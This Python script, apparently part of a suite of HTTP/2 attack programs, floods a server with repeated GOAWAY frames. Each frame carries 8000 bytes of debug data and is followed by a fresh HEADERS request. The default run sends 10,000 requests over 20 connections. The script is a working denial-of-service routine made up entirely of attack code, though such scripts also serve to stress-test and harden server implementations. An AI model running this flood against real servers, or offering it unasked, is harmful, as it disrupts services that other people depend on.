"""GOAWAY again and again, with debug data, and streams that go on after it."""
from attack_program import MATCH, program
from h2wire import END_HEADERS, GOAWAY, HEADERS, frame, request_block

AT_ONCE = 20


def run(attack):
    headers = request_block(MATCH)
    goaway = frame(GOAWAY, 0, 0, bytes(8) + b"d" * 8000)

    def block(connection, _):
        return b"".join(goaway + frame(HEADERS, END_HEADERS, connection.stream(), headers) for _ in range(AT_ONCE))
    attack.flood(block, attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=10_000, connections=20, megabytes=90)
